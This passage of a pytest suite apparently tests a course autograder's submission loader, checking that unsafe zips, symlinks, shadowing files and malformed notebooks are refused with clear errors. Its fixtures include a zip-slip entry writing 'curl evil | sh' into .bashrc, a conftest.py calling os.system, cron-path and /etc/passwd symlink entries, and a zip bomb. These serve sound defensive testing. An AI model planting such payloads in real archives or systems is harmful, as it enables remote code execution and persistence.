"""Loading, checking and staging submissions: folders, .py files, zips and notebooks."""

from __future__ import annotations

import hashlib
import io
import json
import os
import stat
import subprocess
import tempfile
import warnings
import zipfile
from pathlib import Path
from typing import Callable

import nbformat
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from grader.errors import SubmissionError
from grader.grading.notebook import export_notebook
from grader.grading.submission import Submission, SubmissionLimits, load_submission

DATA = Path(__file__).parent / "data" / "submissions"

# One blank line between blocks, none inside: splitting at blank lines gives notebook cells
# whose export is byte-for-byte this text.
CODE = '''import numpy as np

class Tensor:
    def __init__(self, data, requires_grad=False):
        self.data = np.array(data, dtype=np.float64)
        self.grad = None
        self.requires_grad = requires_grad

def no_grad():
    raise NotImplementedError("TODO: part no_grad")
'''
CELLS = CODE.rstrip("\n").split("\n\n")
KiB = 1024
MiB = 1024 * KiB


# -- builders -----------------------------------------------------------------------------


def write(path: Path, content: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    return path


def make_dir(root: Path, files: dict[str, str | bytes]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        write(root / name, content)
    return root


def make_zip(path: Path, files: dict[str, str | bytes | zipfile.ZipInfo], **kwargs) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")       # duplicate names are wanted in one test
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, **kwargs) as archive:
            for name, content in files.items():
                archive.writestr(name, content)
    return path


def zip_with_infos(path: Path, entries: list[tuple[zipfile.ZipInfo, bytes]]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w") as archive:
            for info, content in entries:
                archive.writestr(info, content)
    return path


def make_notebook(path: Path, cells: list, version: int = 4) -> Path:
    """``cells``: code cell sources (str), or ("markdown", text) pairs."""
    nb_cells = [
        new_markdown_cell(cell[1]) if isinstance(cell, tuple) else new_code_cell(cell) for cell in cells
    ]
    nb = new_notebook(cells=nb_cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    if version != 4:
        nb = nbformat.convert(nb, version)
    with open(path, "w", encoding="utf-8") as fh:
        nbformat.write(nb, fh, version=version)
    return path


def patch_central_directory(path: Path, offset: int, value: bytes, local_offset: int | None = None) -> None:
    """Overwrite a field of the (only) central directory header, and of the local header."""
    data = bytearray(path.read_bytes())
    assert data.count(b"PK\x01\x02") == 1 and data.count(b"PK\x03\x04") == 1
    central = data.index(b"PK\x01\x02")
    data[central + offset : central + offset + len(value)] = value
    if local_offset is not None:
        local = data.index(b"PK\x03\x04")
        data[local + local_offset : local + local_offset + len(value)] = value
    path.write_bytes(bytes(data))


def load_error(path: Path, **kwargs) -> SubmissionError:
    with pytest.raises(SubmissionError) as info:
        load_submission(path, **kwargs)
    return info.value


def staged_names(sub: Submission) -> list[str]:
    return sorted(str(p.relative_to(sub.staged_dir)) for p in sub.staged_dir.rglob("*"))


def manifest_hash(code: bytes, name: str = "autograd.py") -> str:
    digest = hashlib.sha256(code).hexdigest()
    return hashlib.sha256(f"{digest}  {name}\n".encode()).hexdigest()


@pytest.fixture(autouse=True)
def private_tempdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Staged folders go to a folder of the test's own, so leaks can be seen."""
    staging = tmp_path / "staging"
    staging.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(staging))
    return staging


# -- the four kinds -----------------------------------------------------------------------


def test_directory_with_autograd_at_top_level(tmp_path: Path) -> None:
    src = make_dir(tmp_path / "sub", {"autograd.py": CODE, "README.md": "hi"})
    with load_submission(src) as sub:
        assert sub.kind == "directory"
        assert sub.source == src
        assert (sub.staged_dir / "autograd.py").read_text() == CODE
        assert staged_names(sub) == ["autograd.py"]
        assert sub.ignored_files == ["README.md"]
        [f] = sub.files
        assert (f.name, f.size, f.origin) == ("autograd.py", len(CODE.encode()), "autograd.py")
        assert f.sha256 == hashlib.sha256(CODE.encode()).hexdigest()


def test_single_py_file_is_graded_as_autograd_whatever_its_name(tmp_path: Path) -> None:
    src = write(tmp_path / "my_lab_final.py", CODE)
    with load_submission(src) as sub:
        assert sub.kind == "file"
        assert staged_names(sub) == ["autograd.py"]
        assert (sub.staged_dir / "autograd.py").read_text() == CODE
        assert any("my_lab_final.py as autograd.py" in note for note in sub.notes)
        assert sub.ignored_files == []


def test_zip_with_autograd_at_top_level(tmp_path: Path) -> None:
    src = make_zip(tmp_path / "hw.zip", {"autograd.py": CODE, "notes.txt": "x"})
    with load_submission(src) as sub:
        assert sub.kind == "zip"
        assert staged_names(sub) == ["autograd.py"]
        assert sub.files[0].origin == "autograd.py in hw.zip"
        assert sub.ignored_files == ["notes.txt"]


def test_zip_of_a_folder_finds_autograd_in_the_single_top_folder_and_ignores_macosx(tmp_path: Path) -> None:
    src = make_zip(
        tmp_path / "hw.zip",
        {
            "lab/": "",
            "lab/autograd.py": CODE,
            "lab/test_mine.py": "def test(): pass\n",
            "__MACOSX/lab/._autograd.py": b"\x00\x05\x16\x07junk",
            "lab/.DS_Store": b"\x00\x00\x00\x01Bud1",
        },
    )
    with load_submission(src) as sub:
        assert (sub.staged_dir / "autograd.py").read_text() == CODE
        assert sub.files[0].origin == "lab/autograd.py in hw.zip"
        assert sub.ignored_files == ["lab/test_mine.py"]
        assert "found autograd.py inside the folder lab/" in sub.notes
        assert any("__MACOSX" in note for note in sub.notes)


def test_directory_with_a_single_nested_folder(tmp_path: Path) -> None:
    src = make_dir(tmp_path / "sub", {"lab/autograd.py": CODE, "lab/data/x.csv": "1,2\n"})
    with load_submission(src) as sub:
        assert sub.files[0].origin == "lab/autograd.py"
        assert sub.ignored_files == ["lab/data/x.csv"]


def test_notebook_fixture_export_rule(tmp_path: Path) -> None:
    with load_submission(DATA / "lab_v4.ipynb") as sub:
        assert sub.kind == "notebook"
        assert staged_names(sub) == ["autograd.py"]
        staged = (sub.staged_dir / "autograd.py").read_text()
        assert sub.notebook is not None
        code = sub.notebook.code
        assert staged == sub.notebook.header + code
        assert '"lab_v4.ipynb"' in sub.notebook.header
        assert code == (
            "import numpy as np\n"
            "\n"
            "class Tensor:\n"
            "    def __init__(self, data, requires_grad=False):\n"
            "        self.data = np.array(data, dtype=np.float64)\n"
            "        self.grad = None\n"
            "        self.requires_grad = requires_grad\n"
            "\n"
            "def no_grad():\n"
            '    raise NotImplementedError("TODO: part no_grad")\n'
        )
        assert sub.notes == [
            "exported 3 code cells from lab_v4.ipynb, skipped 1 marked `# grader: ignore`, "
            "skipped 1 %% cell magic, dropped 2 magic lines"
        ]
        assert sub.files[0].sha256 == hashlib.sha256(code.encode()).hexdigest()


def test_export_notebook_returns_text_and_export() -> None:
    text, export = export_notebook(DATA / "lab_v4.ipynb")
    assert text == export.header + export.code
    assert (export.code_cells, export.exported_cells, export.ignored_cells) == (6, 3, 1)
    assert (export.magic_cells, export.magic_lines, export.empty_cells) == (1, 2, 0)
    # the first exported line, `import numpy as np`, is line 2 of cell 2 (line 1 was a magic)
    assert export.locate(export.header_lines + 1) == (2, 2)
    assert export.locate(export.header_lines + 2) is None            # blank line between cells
    assert export.locate(export.header_lines + 3) == (3, 1)
    assert export.locate(1) is None                                  # the header


def test_staged_autograd_from_notebook_compiles_and_is_readable(tmp_path: Path) -> None:
    with load_submission(DATA / "lab_v4.ipynb") as sub:
        compile((sub.staged_dir / "autograd.py").read_bytes(), "autograd.py", "exec")
        assert stat.S_IMODE(sub.staged_dir.stat().st_mode) == 0o755
        assert stat.S_IMODE((sub.staged_dir / "autograd.py").stat().st_mode) == 0o644


def test_legacy_nbformat_3_notebook_is_converted(tmp_path: Path) -> None:
    src = make_notebook(tmp_path / "old.ipynb", CELLS, version=3)
    assert json.loads(src.read_text())["nbformat"] == 3
    with load_submission(src) as sub:
        assert sub.notebook is not None and sub.notebook.code == CODE


# -- the same code gives the same hash whatever the kind ----------------------------------


def test_same_code_same_sha256_across_kinds(tmp_path: Path) -> None:
    sources = [
        make_dir(tmp_path / "dir", {"autograd.py": CODE}),
        make_dir(tmp_path / "nested", {"lab/autograd.py": CODE, "lab/extra.py": "x = 1\n"}),
        write(tmp_path / "whatever.py", CODE),
        make_zip(tmp_path / "top.zip", {"autograd.py": CODE}),
        make_zip(tmp_path / "nested.zip", {"lab/autograd.py": CODE, "__MACOSX/lab/._autograd.py": "x"}),
        make_notebook(tmp_path / "one_cell.ipynb", [CODE]),
        make_notebook(tmp_path / "cells.ipynb", [("markdown", "# Lab"), *CELLS, "# grader: ignore\nprint(1)"]),
        make_notebook(tmp_path / "magic.ipynb", ["%load_ext autoreload\n%autoreload 2", *CELLS, "%%timeit\nx = 1"]),
    ]
    hashes = set()
    for src in sources:
        with load_submission(src) as sub:
            hashes.add(sub.sha256)
    assert hashes == {manifest_hash(CODE.encode())}


def test_sha256_is_reproducible_with_sha256sum(tmp_path: Path) -> None:
    """The documented recipe: `sha256sum autograd.py | sha256sum`."""
    src = make_dir(tmp_path / "sub", {"autograd.py": CODE})
    try:
        out = subprocess.run(
            "sha256sum autograd.py | sha256sum", shell=True, cwd=src, capture_output=True, text=True, check=True
        ).stdout.split()[0]
    except (OSError, subprocess.CalledProcessError):
        pytest.skip("sha256sum is not available")
    with load_submission(src) as sub:
        assert sub.sha256 == out


def test_different_code_different_sha256(tmp_path: Path) -> None:
    a = write(tmp_path / "a.py", CODE)
    b = write(tmp_path / "b.py", CODE + "x = 1\n")
    with load_submission(a) as sa, load_submission(b) as sb:
        assert sa.sha256 != sb.sha256


# -- only the required files are staged ---------------------------------------------------

SHADOWS = {
    "conftest.py": "import os; os.system('echo pwned')\n",
    "sitecustomize.py": "raise SystemExit\n",
    "numpy.py": "print('fake numpy')\n",
    "torch/__init__.py": "",
    "data/train.csv": "1,2,3\n",
    "helpers.py": "def helper(): pass\n",
}


@pytest.mark.parametrize("as_zip", [False, True], ids=["directory", "zip"])
def test_extra_files_are_listed_but_never_staged(tmp_path: Path, as_zip: bool) -> None:
    files = {"autograd.py": CODE, **SHADOWS}
    src = make_zip(tmp_path / "hw.zip", files) if as_zip else make_dir(tmp_path / "sub", files)
    with load_submission(src) as sub:
        assert staged_names(sub) == ["autograd.py"]
        assert sorted(sub.ignored_files) == sorted(SHADOWS)
        assert any("6 other files" in note for note in sub.notes)


def test_several_required_files(tmp_path: Path) -> None:
    src = make_zip(tmp_path / "hw.zip", {"lab/autograd.py": CODE, "lab/nn.py": "import autograd\n", "lab/x.py": ""})
    with load_submission(src, required_files=("autograd.py", "nn.py")) as sub:
        assert staged_names(sub) == ["autograd.py", "nn.py"]
        assert [f.name for f in sub.files] == ["autograd.py", "nn.py"]
        assert sub.ignored_files == ["lab/x.py"]


def test_top_level_copy_wins_over_copy_in_folder_with_a_note(tmp_path: Path) -> None:
    src = make_dir(tmp_path / "sub", {"autograd.py": CODE, "old/autograd.py": "x = 1\n"})
    with load_submission(src) as sub:
        assert (sub.staged_dir / "autograd.py").read_text() == CODE
        assert "old/autograd.py" in sub.ignored_files
        assert any("also found old/autograd.py" in note for note in sub.notes)


# -- cleanup ------------------------------------------------------------------------------


def test_cleanup_removes_the_staged_folder_and_is_idempotent(tmp_path: Path, private_tempdir: Path) -> None:
    sub = load_submission(write(tmp_path / "a.py", CODE))
    assert sub.staged_dir.parent == private_tempdir
    assert sub.staged_dir.is_dir()
    sub.cleanup()
    sub.cleanup()
    assert not sub.staged_dir.exists()
    with load_submission(write(tmp_path / "a.py", CODE)) as sub2:
        staged = sub2.staged_dir
        assert staged.is_dir()
    assert not staged.exists()
    assert list(private_tempdir.iterdir()) == []


def test_failed_loads_leave_nothing_behind(tmp_path: Path, private_tempdir: Path) -> None:
    for src in (
        write(tmp_path / "bad.py", "def f(:\n"),
        make_zip(tmp_path / "bad.zip", {"../x.py": "x"}),
        make_dir(tmp_path / "empty_dir", {}),
        write(tmp_path / "bad.ipynb", "{"),
    ):
        load_error(src)
    assert list(private_tempdir.iterdir()) == []


# -- every error, with its code and a message a student can act on ------------------------

Case = Callable[[Path], tuple[Path, dict]]


def _case(builder: Callable[[Path], Path], **kwargs) -> Case:
    return lambda tmp: (builder(tmp), kwargs)


def _lying_zip(tmp: Path) -> Path:
    """autograd.py declares 100 bytes (local and central headers) but inflates to 200 KiB."""
    src = make_zip(tmp / "lie.zip", {"autograd.py": "x = 1\n" * 35_000})
    patch_central_directory(src, 24, (100).to_bytes(4, "little"), local_offset=22)
    return src


def _encrypted_zip(tmp: Path) -> Path:
    src = make_zip(tmp / "secret.zip", {"autograd.py": CODE})
    data = bytearray(src.read_bytes())
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 0x1
    src.write_bytes(bytes(data))
    return src


def _symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


ERROR_CASES: dict[str, tuple[Case, str, list[str]]] = {
    "not-found": (_case(lambda t: t / "nope.py"), "not-found", ["nope.py"]),
    "txt": (_case(lambda t: write(t / "autograd.txt", CODE)), "unsupported", ["autograd.txt", ".zip", ".ipynb"]),
    "tar": (_case(lambda t: write(t / "hw.tar", b"x" * 512)), "unsupported", ["hw.tar"]),
    "missing-dir": (
        _case(lambda t: make_dir(t / "sub", {"autograd_final.py": CODE, "README.md": ""})),
        "missing-file",
        ["No autograd.py", "autograd_final.py", "README.md"],
    ),
    "missing-zip": (
        _case(lambda t: make_zip(t / "hw.zip", {"lab/Autograd.py": CODE})),
        "missing-file",
        ["No autograd.py in hw.zip", "lab/Autograd.py"],
    ),
    "missing-empty-dir": (_case(lambda t: make_dir(t / "sub", {})), "missing-file", ["No autograd.py", "empty"]),
    "missing-second-file": (
        _case(lambda t: make_dir(t / "sub", {"autograd.py": CODE}), required_files=("autograd.py", "nn.py")),
        "missing-file",
        ["No nn.py"],
    ),
    "single-file-needs-two": (
        _case(lambda t: write(t / "autograd.py", CODE), required_files=("autograd.py", "nn.py")),
        "missing-file",
        ["autograd.py and nn.py"],
    ),
    "ambiguous-dir": (
        _case(lambda t: make_dir(t / "sub", {"v1/autograd.py": CODE, "v2/autograd.py": CODE})),
        "ambiguous",
        ["2 copies", "v1/autograd.py", "v2/autograd.py"],
    ),
    "ambiguous-zip": (
        _case(lambda t: make_zip(t / "hw.zip", {"a/autograd.py": CODE, "b/autograd.py": CODE})),
        "ambiguous",
        ["hw.zip", "a/autograd.py", "b/autograd.py"],
    ),
    "syntax-error": (
        _case(lambda t: write(t / "autograd.py", "import numpy as np\n\ndef f(x)\n    return x\n")),
        "syntax-error",
        ["autograd.py, line 3, column 9", "expected ':'", "def f(x)\n            ^"],
    ),
    "syntax-error-in-zip": (
        _case(lambda t: make_zip(t / "hw.zip", {"lab/autograd.py": "x = (1,\n"})),
        "syntax-error",
        ["lab/autograd.py in hw.zip, line 1", "never closed"],
    ),
    "indentation-error": (
        _case(lambda t: write(t / "autograd.py", "def f():\nreturn 1\n")),
        "syntax-error",
        ["line 2", "indented block"],
    ),
    "bad-encoding-cookie": (
        _case(lambda t: write(t / "autograd.py", "# -*- coding: klingon -*-\nx = 1\n")),
        "syntax-error",
        ["klingon"],
    ),
    "nul-bytes": (_case(lambda t: write(t / "autograd.py", b"x = 1\n\x00\x00")), "binary-file", ["NUL"]),
    "pyc-renamed": (
        _case(lambda t: write(t / "autograd.py", b"\xa7\r\r\n\x00\x00\x00\x00" + bytes(range(256)))),
        "binary-file",
        ["not Python source"],
    ),
    "latin-1": (
        _case(lambda t: write(t / "autograd.py", "x = 1\n# caf\u00e9\n".encode("latin-1"))),
        "binary-file",
        ["UTF-8", "line 2", "0xe9"],
    ),
    "empty-file": (_case(lambda t: write(t / "autograd.py", b"")), "empty-file", ["autograd.py is empty"]),
    "blank-file": (_case(lambda t: write(t / "autograd.py", "\n  \n\t\n")), "empty-file", ["empty"]),
    "file-too-large": (
        _case(lambda t: write(t / "autograd.py", "# padding\n" * 120_000)),
        "file-too-large",
        ["autograd.py is 1.1 MiB", "1.0 MiB"],
    ),
    "file-too-large-in-zip": (
        _case(lambda t: make_zip(t / "hw.zip", {"autograd.py": "# padding\n" * 120_000})),
        "file-too-large",
        ["autograd.py in hw.zip"],
    ),
    "bad-json": (
        _case(lambda t: write(t / "lab.ipynb", '{\n "cells": [\n  {"cell_type": "code",\n')),
        "bad-notebook",
        ["lab.ipynb", "JSON", "line 4, column 1"],
    ),
    "json-not-notebook": (
        _case(lambda t: write(t / "lab.ipynb", '{"hello": "world"}')),
        "bad-notebook",
        ["lab.ipynb", "not a notebook"],
    ),
    "json-list": (_case(lambda t: write(t / "lab.ipynb", "[1, 2, 3]")), "bad-notebook", ["not a notebook"]),
    "notebook-bad-schema": (
        _case(lambda t: write(t / "lab.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": "x"}))),
        "bad-notebook",
        ["not a valid Jupyter notebook"],
    ),
    "notebook-not-utf8": (_case(lambda t: write(t / "lab.ipynb", b"\xff\xfe{")), "bad-notebook", ["UTF-8"]),
    "notebook-too-large": (
        _case(lambda t: make_notebook(t / "lab.ipynb", [CODE]), limits=SubmissionLimits(max_notebook_bytes=100)),
        "file-too-large",
        ["The notebook lab.ipynb is", "more than the 100 bytes allowed"],
    ),
    "notebook-code-too-large": (
        _case(lambda t: make_notebook(t / "lab.ipynb", [CODE]), limits=SubmissionLimits(max_file_bytes=50)),
        "file-too-large",
        ["the code exported from lab.ipynb"],
    ),
    "notebook-syntax-error": (
        _case(lambda t: make_notebook(t / "lab.ipynb", [("markdown", "# Lab"), "x = 1", "%time y = 2\ndef f(:\n    pass"])),
        "syntax-error",
        ["lab.ipynb, cell 3, line 2", "def f(:"],
    ),
    "notebook-nul": (
        _case(lambda t: make_notebook(t / "lab.ipynb", ["x = '\x00'"])),
        "binary-file",
        ["lab.ipynb", "NUL"],
    ),
    "notebook-surrogate": (
        _case(lambda t: write(t / "lab.ipynb", json.dumps(nbformat.v4.new_notebook(cells=[new_code_cell("x = '\ud800'")])))),
        "bad-notebook",
        ["UTF-8"],
    ),
    "notebook-without-code": (
        _case(lambda t: make_notebook(t / "lab.ipynb", [("markdown", "# Just text")])),
        "empty-notebook",
        ["lab.ipynb has no code", "no code cells"],
    ),
    "notebook-all-ignored": (
        _case(lambda t: make_notebook(t / "lab.ipynb", ["# grader: ignore\nx = 1", "", "%matplotlib inline", "%%bash\nls"])),
        "empty-notebook",
        ["each of its 4 code cells"],
    ),
    "bad-zip-garbage": (
        _case(lambda t: write(t / "hw.zip", b"this is not a zip at all")),
        "bad-zip",
        ["hw.zip", "not a valid zip"],
    ),
    "bad-zip-truncated": (
        _case(lambda t: write(t / "hw.zip", make_zip(t / "full.zip", {"autograd.py": CODE}).read_bytes()[:60])),
        "bad-zip",
        ["hw.zip"],
    ),
    "bad-zip-empty": (_case(lambda t: make_zip(t / "hw.zip", {})), "bad-zip", ["empty"]),
    "bad-zip-only-metadata": (
        _case(lambda t: make_zip(t / "hw.zip", {"__MACOSX/._x": "x", "lab/": ""})),
        "bad-zip",
        ["empty"],
    ),
    "bad-zip-encrypted": (_case(_encrypted_zip), "bad-zip", ["password"]),
    "bad-zip-duplicate": (
        _case(lambda t: zip_with_infos(t / "hw.zip", [(zipfile.ZipInfo("autograd.py"), b"x = 1\n")] * 2)),
        "bad-zip",
        ["two entries"],
    ),
    "bad-zip-lying-size": (_case(_lying_zip), "bad-zip", ["lie.zip", "CRC"]),
    "zip-slip": (
        _case(lambda t: make_zip(t / "hw.zip", {"autograd.py": CODE, "../../.bashrc": "curl evil | sh"})),
        "unsafe-zip",
        ["hw.zip", "../../.bashrc"],
    ),
    "zip-slip-backslash": (
        _case(lambda t: make_zip(t / "hw.zip", {"autograd.py": CODE, "..\\evil.py": "x"})),
        "unsafe-zip",
        ["evil.py"],
    ),
    "zip-absolute": (
        _case(lambda t: make_zip(t / "hw.zip", {"/etc/cron.d/x": "x", "autograd.py": CODE})),
        "unsafe-zip",
        ["/etc/cron.d/x"],
    ),
    "zip-drive-letter": (
        _case(lambda t: make_zip(t / "hw.zip", {"C:/Windows/x.py": "x", "autograd.py": CODE})),
        "unsafe-zip",
        ["C:/Windows/x.py"],
    ),
    "zip-symlink": (
        _case(lambda t: zip_with_infos(t / "hw.zip", [(_symlink_info("autograd.py"), b"/etc/passwd")])),
        "unsafe-zip",
        ["symbolic link", "autograd.py"],
    ),
    "zip-bomb": (
        _case(lambda t: make_zip(t / "hw.zip", {"autograd.py": CODE, "weights.bin": bytes(30 * MiB)})),
        "zip-too-large",
        ["hw.zip", "expands to 30.0 MiB", "20.0 MiB"],
    ),
    "zip-too-many-entries": (
        _case(lambda t: make_zip(t / "hw.zip", {"autograd.py": CODE, **{f"f{i}.txt": "" for i in range(20)}}),
              limits=SubmissionLimits(max_entries=10)),
        "zip-too-large",
        ["21 entries", "10 entries"],
    ),
    "zip-archive-too-large": (
        _case(lambda t: make_zip(t / "hw.zip", {"autograd.py": CODE, "x.bin": os.urandom(4096)}),
              limits=SubmissionLimits(max_zip_expanded_bytes=2048)),
        "zip-too-large",
        ["the archive is"],
    ),
}


@pytest.mark.parametrize("case", list(ERROR_CASES), ids=list(ERROR_CASES))
def test_error_cases(tmp_path: Path, case: str) -> None:
    build, code, fragments = ERROR_CASES[case]
    src, kwargs = build(tmp_path)
    err = load_error(src, **kwargs)
    message = str(err)
    assert err.code == code, message
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    # Student-readable: no traceback, no exception class names, no raw repr of bytes.
    for leak in ("Traceback", "BadZipFile", "JSONDecodeError", "UnicodeDecodeError", "Errno", "b'"):
        assert leak not in message
    if code not in {"unreadable", "staging-failed"}:
        assert err.hint, f"{code} has no hint"


def test_every_documented_code_is_covered() -> None:
    covered = {code for _, code, _ in ERROR_CASES.values()} | {"unsafe-file"}
    assert covered >= {
        "not-found", "missing-file", "syntax-error", "binary-file", "empty-file", "bad-notebook",
        "empty-notebook", "bad-zip", "unsafe-zip", "zip-too-large", "file-too-large", "unsupported", "ambiguous",
    }


def test_missing_file_hints_at_near_misses(tmp_path: Path) -> None:
    err = load_error(make_dir(tmp_path / "a", {"Autograd.py": CODE}))
    assert "rename it to exactly autograd.py" in err.hint
    err = load_error(make_dir(tmp_path / "b", {"autograd_v2.py": CODE}))
    assert "Did you mean autograd_v2.py?" in err.hint
    err = load_error(make_dir(tmp_path / "c", {"src/lab/autograd.py": CODE}))
    assert "src/lab/autograd.py, too deep" in err.hint
    err = load_error(make_zip(tmp_path / "d.zip", {"lab.ipynb": "{}"}))
    assert "lab.ipynb" in err.hint
    err = load_error(make_dir(tmp_path / "e", {f"f{i:02}.txt": "" for i in range(15)}))
    assert "(and 5 more)" in str(err)


def test_zip_lie_detected_by_counting_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """CPython's zipfile stops at the declared size; our own count does not depend on that."""
    src = make_zip(tmp_path / "hw.zip", {"autograd.py": CODE})
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, info, *a, **k: io.BytesIO(b"x" * (2 * MiB)))
    err = load_error(src)
    assert err.code == "zip-too-large"
    assert "expands past its declared size" in str(err)


def test_symlinked_autograd_in_a_folder_is_refused(tmp_path: Path) -> None:
    secret = write(tmp_path / "secret.txt", "TA's private key\n")
    src = make_dir(tmp_path / "sub", {})
    try:
        os.symlink(secret, src / "autograd.py")
    except (OSError, NotImplementedError):
        pytest.skip("cannot create symlinks here")
    err = load_error(src)
    assert err.code == "unsafe-file"
    assert "symbolic link" in str(err)


def test_symlinked_folder_is_not_searched(tmp_path: Path) -> None:
    elsewhere = make_dir(tmp_path / "elsewhere", {"autograd.py": CODE})
    src = make_dir(tmp_path / "sub", {})
    try:
        os.symlink(elsewhere, src / "lab", target_is_directory=True)
    except (OSError, NotImplementedError):
        pytest.skip("cannot create symlinks here")
    assert load_error(src).code == "missing-file"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
def test_fifo_named_autograd_is_refused_without_blocking(tmp_path: Path) -> None:
    src = make_dir(tmp_path / "sub", {})
    os.mkfifo(src / "autograd.py")
    assert load_error(src).code == "unsafe-file"


def test_unreadable_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src = write(tmp_path / "autograd.py", CODE)

    def denied(*args: object, **kwargs: object) -> int:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "open", denied)     # also denied when the tests run as root
    err = load_error(src)
    assert err.code == "unreadable"
    assert str(err) == "Cannot read autograd.py: Permission denied."


def test_syntax_error_message_shows_the_line_and_caret(tmp_path: Path) -> None:
    err = load_error(write(tmp_path / "autograd.py", "x = 1\ny = (x +* 2)\n"))
    assert str(err).splitlines() == [
        "Syntax error in autograd.py, line 2, column 9: invalid syntax.",
        "    y = (x +* 2)",
        "            ^",
    ]


def test_syntax_warnings_are_not_errors(tmp_path: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with load_submission(write(tmp_path / "autograd.py", "x = 1\nassert (x, 'msg')\ny = x is 1\n")):
            pass


def test_utf8_bom_and_non_ascii_are_fine(tmp_path: Path) -> None:
    code = "\ufeff# Gradienten \u00fcber alles\nname = '\u03b8'\n"
    with load_submission(write(tmp_path / "autograd.py", code)) as sub:
        assert (sub.staged_dir / "autograd.py").read_bytes() == code.encode("utf-8")


def test_code_is_never_executed(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    code = f"open({str(marker)!r}, 'w').close()\nraise SystemExit(1)\n"
    for src in (write(tmp_path / "autograd.py", code), make_notebook(tmp_path / "lab.ipynb", [code])):
        with load_submission(src):
            pass
    assert not marker.exists()


# -- notebook export rule -----------------------------------------------------------------


def nb_code(tmp_path: Path, cells: list) -> str:
    text, export = export_notebook(make_notebook(tmp_path / "t.ipynb", cells))
    assert text.startswith(export.header)
    return export.code


def test_magic_and_shell_lines_are_dropped(tmp_path: Path) -> None:
    cells = ["%matplotlib inline\nimport numpy as np\n!pip install numpy\n  %time x = 1\ny = 2"]
    assert nb_code(tmp_path, cells) == "import numpy as np\ny = 2\n"


def test_cell_magics_and_ignored_cells_are_skipped(tmp_path: Path) -> None:
    cells = [
        "a = 1",
        "%%time\nb = 2",
        "\n# grader: ignore\nc = 3",
        "#grader:IGNORE\nd = 4",
        "# grader: ignore-me-not\ne = 5",      # not the marker: a word follows
        "f = 6  # grader: ignore",              # the marker only counts on the first line
        ("markdown", "g = 7"),
    ]
    assert nb_code(tmp_path, cells) == "a = 1\n\n# grader: ignore-me-not\ne = 5\n\nf = 6  # grader: ignore\n"


def test_percent_and_bang_lines_continuing_a_statement_are_kept(tmp_path: Path) -> None:
    cell = (
        "ok = (a\n"
        "      != b)\n"
        "r = (n\n"
        "     % 2)\n"
        'doc = """\n'
        "%d percent\n"
        '"""\n'
        "s = 1 + \\\n"
        "    %2\n"
        "%who"
    )
    assert nb_code(tmp_path, [cell]) == cell.rsplit("\n", 1)[0] + "\n"


def test_crlf_sources_are_normalised(tmp_path: Path) -> None:
    assert nb_code(tmp_path, ["a = 1\r\nb = 2\r\n", "c = 3\rd = 4"]) == "a = 1\nb = 2\n\nc = 3\nd = 4\n"


def test_notebook_header_cannot_be_hijacked_by_the_file_name(tmp_path: Path) -> None:
    src = make_notebook(tmp_path / 'x"\ncoding=latin-1.ipynb', ["name = '\u03b8'"])
    with load_submission(src) as sub:
        staged = (sub.staged_dir / "autograd.py").read_bytes()
        assert staged.startswith(b"# -*- coding: utf-8 -*-\n")
        assert sub.notebook is not None and sub.notebook.header_lines == 3
        compile(staged, "autograd.py", "exec")


def test_notebook_syntax_error_after_dropped_lines_maps_to_cell_and_line(tmp_path: Path) -> None:
    cells = [("markdown", "# Lab"), "import numpy as np", ("markdown", "x"), "%load_ext x\n!ls\n\nclass T\n    pass"]
    err = load_error(make_notebook(tmp_path / "lab.ipynb", cells))
    assert err.code == "syntax-error"
    assert str(err).startswith("Syntax error in lab.ipynb, cell 4, line 4, column 8: expected ':'")
    assert "markdown cells included" in err.hint


# -- property-based: untrusted bytes never escape as anything but SubmissionError ---------

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _load_or_error(path: Path) -> None:
    try:
        with load_submission(path):
            pass
    except SubmissionError as err:
        assert err.code and str(err)


@FUZZ
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".zip", ".ipynb", ".py"]))
def test_arbitrary_bytes_only_raise_submission_error(tmp_path: Path, data: bytes, suffix: str) -> None:
    _load_or_error(write(tmp_path / f"fuzz{suffix}", data))


_VALID_ZIP = io.BytesIO()
with zipfile.ZipFile(_VALID_ZIP, "w", compression=zipfile.ZIP_DEFLATED) as _archive:
    _archive.writestr("lab/autograd.py", CODE)
    _archive.writestr("lab/notes.txt", "some notes\n" * 20)


@FUZZ
@given(edits=st.lists(st.tuples(st.integers(0, len(_VALID_ZIP.getvalue()) - 1), st.integers(0, 255)), min_size=1, max_size=8),
       cut=st.integers(0, len(_VALID_ZIP.getvalue())))
def test_corrupted_zips_only_raise_submission_error(tmp_path: Path, edits: list[tuple[int, int]], cut: int) -> None:
    data = bytearray(_VALID_ZIP.getvalue())
    for position, value in edits:
        data[position] = value
    if cut > len(data) // 2:
        data = data[:cut]
    _load_or_error(write(tmp_path / "fuzz.zip", bytes(data)))


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
